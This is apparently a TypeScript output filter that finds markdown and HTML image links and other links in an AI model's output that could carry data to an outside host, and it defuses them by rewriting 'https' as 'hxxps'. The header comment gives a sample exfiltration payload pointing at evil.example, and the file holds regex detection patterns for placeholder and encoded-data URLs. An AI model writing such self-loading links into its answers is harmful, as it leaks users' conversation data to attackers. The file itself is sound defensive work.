// Question: does the answer hold a link that carries data away when it is shown?
// Threat:   `![x](https://evil.example/?d=…)`: a client loads the picture without a click, and what the model put behind `d=` is gone.
// Rule:     pictures whose address has a place to fill, or holds encoded data, lose their scheme (`hxxps`); links of that kind are counted.
// Limits:   short data in plain words passes, and so does a link that the model writes by itself. Hosts that are listed are left alone.
// Proof:    active-links.test.ts
import type { OutputFilter } from './release.ts'
import { slicedFilter } from './slices.ts'

export type LinkAction = 'defuse' | 'mark' | 'off'
export type LinkRules = Readonly<{ images: LinkAction; links: LinkAction; hosts: readonly string[] }>

const ADDRESS = '(?:https?:)?//[^\\s<>"\'()]{1,2048}(?:\\([^\\s<>"\'()]{0,200}\\)[^\\s<>"\'()]{0,200})?'
// CommonMark §6.4 and §6.3, with every repetition bounded; HTML as it stands in markdown.
const FORMS: readonly (readonly [kind: 'images' | 'links', form: string])[] = [
  ['images', `!\\[[^\\]\\n]{0,300}?\\]\\(\\s{0,4}<?(${ADDRESS})`],
  [
    'images',
    `<(?:img|source|video|audio|iframe|embed|object|link)\\b[^<>]{0,500}?\\b(?:src|srcset|href|data|poster)\\s{0,4}=\\s{0,4}["']?(${ADDRESS})`,
  ],
  ['links', `\\]\\(\\s{0,4}<?(${ADDRESS})`],
  ['links', `(?<=^ {0,3}\\[[^\\]\\n]{1,100}\\]:\\s{0,4}<?)(${ADDRESS})`],
  ['links', `<(${ADDRESS})>`],
]
const LOOKS = /\]\(|\]:|<[a-z]{3,6}\b|<(?:https?:)?\/\//i // in each of them
const LINK = new RegExp(FORMS.map(([, form]) => form).join('|'), 'gim')

/** `defuse` writes `hxxps` for `https`; `mark` leaves the link as it is and says that it is there. */
export function activeLinks({ images, links, hosts }: LinkRules): OutputFilter {
  const actions = { images, links }
  const listed = hosts.map((host) => host.toLowerCase())
  const isListed = (host: string) =>
    listed.some((entry) => (entry.startsWith('*.') ? host.endsWith(entry.slice(1)) : host === entry))
  return slicedFilter({
    name: 'activeLinks',
    suspects: LOOKS,
    mayHold: LOOKS,
    pattern: LINK,
    reach: 4096,
    slice: 8192,
    says: (count) => `${count} links that can carry data away were found; pictures among them do not load`,
    instead([match, ...addresses], origin) {
      const found = addresses.findIndex((address) => address !== undefined)
      const address = addresses[found]
      const action = actions[FORMS[found]?.[0] ?? 'links']
      if (address === undefined || action === 'off' || !carries(address, origin, isListed)) return undefined
      if (action === 'mark') return match
      const at = match.lastIndexOf(address)
      return `${match.slice(0, at)}${address.replace(/^(?:https?:)?(?=\/\/)/i, 'hxxps:')}${match.slice(at + address.length)}`
    },
  })
}

// `{data}`, `<secret>`, `[HISTORY]`, `$TOKEN`, `%s`, and a parameter at the end that has no value yet.
const TO_FILL =
  /\{[^{}\s]{1,80}\}|%7B[^\s]{1,80}?%7D|\[[A-Za-z_ ]{2,40}\]|%5B[A-Za-z_]{2,40}%5D|\$[A-Z_]{3,}|[=/]%s\b|\b(?:YOUR|INSERT|REPLACE|USER|SECRET|DATA)_[A-Z_]{2,}|[?&][A-Za-z0-9_-]{1,40}=$/
const ENCODED = 32 // characters of base64 or hexadecimal in one value: 24 bytes
const LABEL = 30 // a name of a host that nobody types

function carries(address: string, origin: string | undefined, isListed: (host: string) => boolean): boolean {
  const url = URL.parse(address.startsWith('//') ? `https:${address}` : address)
  if (url === null || isListed(url.hostname)) return false
  if (TO_FILL.test(address)) return true
  if (origin !== undefined && URL.parse(origin)?.hostname === url.hostname) return false
  const values = [...url.searchParams.values(), url.hash.slice(1), url.username, url.password]
  return values.some(isEncoded) || url.hostname.split('.').some((label) => label.length >= LABEL && /\d/.test(label))
}

const isEncoded = (value: string) =>
  value.length >= ENCODED && /^[A-Za-z0-9+/_=-]+$/.test(value) && /\d/.test(value) && /[A-Za-z]/.test(value)
